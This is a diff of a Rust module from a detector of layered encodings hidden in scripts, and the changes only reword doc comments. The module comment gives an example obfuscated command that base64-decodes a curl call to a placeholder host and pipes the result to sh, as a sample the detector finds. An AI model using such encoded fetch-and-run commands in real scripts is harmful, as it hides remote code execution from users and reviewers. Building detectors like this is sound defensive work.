@@ -1,12 +1,12 @@
 //! Texts that are wrapped inside a text.
 //!
-//! What a script hides it hides in layers: base64 of gzip of escapes. We look for anything that *could* be an
-//! encoding, decode it, and keep it only if the result [reads as language or code](super::plausible), or holds
+//! What a script hides it hides in layers: base64 of gzip of escapes. We search for anything that *could* be an
+//! encoding, decode it, and keep it only if the result [reads as language or code](super::plausible), or contains
 //! a further layer that does. So a digest, a UUID, a picture or a long identifier costs one short attempt and
-//! is never mentioned. For example `echo Y3VybCBodHRwOi8veC55L3o= | base64 -d | sh` holds one piece,
+//! is never mentioned. For example `echo Y3VybCBodHRwOi8veC55L3o= | base64 -d | sh` contains one piece,
 //! `curl http://x.y/z`, by `[Base64]`.
 //!
-//! Long candidates are judged by their beginning before they are decoded, each byte is looked at a fixed number
+//! Long candidates are judged by their beginning before they are decoded, each byte is read a fixed number
 //! of times a layer, and depth, count and output have a [`Budget`].
 
 use std::ops::Range;
@@ -59,7 +59,7 @@ pub(crate) struct Piece {
     pub at: Range<usize>,
     /// How it was wrapped, outermost first.
     pub how: Vec<Encoding>,
-    /// What it says.
+    /// The decoded text.
     pub text: String,
 }
 
@@ -95,10 +95,10 @@ const SHORTEST_HEX: usize = 20;
 const PROBE: usize = 128;
 /// A line that is shorter is not part of a wrapped block.
 const SHORTEST_LINE: usize = 24;
-/// Turned text is looked for around a tell-tale word, this far.
+/// The distance around a characteristic word in which rotated and reversed text is searched.
 const REACH: usize = 2048;
 
-/// Finds the texts that are encoded in `text`, in its order, layers below the piece that holds them.
+/// Finds the texts that are encoded in `text`, in its order, layers after the piece that contains them.
 #[must_use]
 pub(crate) fn decoded(text: &str, budget: &mut Budget) -> Vec<Piece> {
     let mut search = Search {
@@ -143,7 +143,7 @@ impl Search<'_, '_> {
         }
     }
 
-    /// Takes what decoding gave, unwraps what has no alphabet of its own, and keeps it if it reads.
+    /// Takes decoded bytes, unwraps compression, and keeps the text if it is plausible.
     fn offer(&mut self, at: Range<usize>, how: Encoding, mut bytes: Vec<u8>) -> bool {
         let mut how = vec![how];
         if let Some(inflated) = codec::inflate(&bytes, self.budget.bytes.min(1024 * 1024)) {
@@ -344,7 +344,7 @@ impl Search<'_, '_> {
         }
     }
 
-    /// Rotated and reversed text is only recognised by words that nobody writes that way by accident.
+    /// Rotated and reversed text is only recognised by words that do not occur in this form by accident.
     fn turned(&mut self, words: &Option<AhoCorasick>, how: Encoding) {
         let Some(words) = words.as_ref().filter(|_| self.how.last() != Some(&how)) else {
             return;
@@ -467,7 +467,7 @@ fn is_token_header(text: &str) -> bool {
     text.starts_with("{\"alg\":") || text.starts_with("{\"typ\":\"JWT\"")
 }
 
-/// A word inside a longer word is not that word: `confuse` holds a rotated `bash`.
+/// A word inside a longer word is not that word: `confuse` contains a rotated `bash`.
 fn stands_alone(bytes: &[u8], at: Range<usize>) -> bool {
     let letter = |b: Option<&u8>| b.is_some_and(u8::is_ascii_alphabetic);
     let first = letter(bytes.get(at.start))
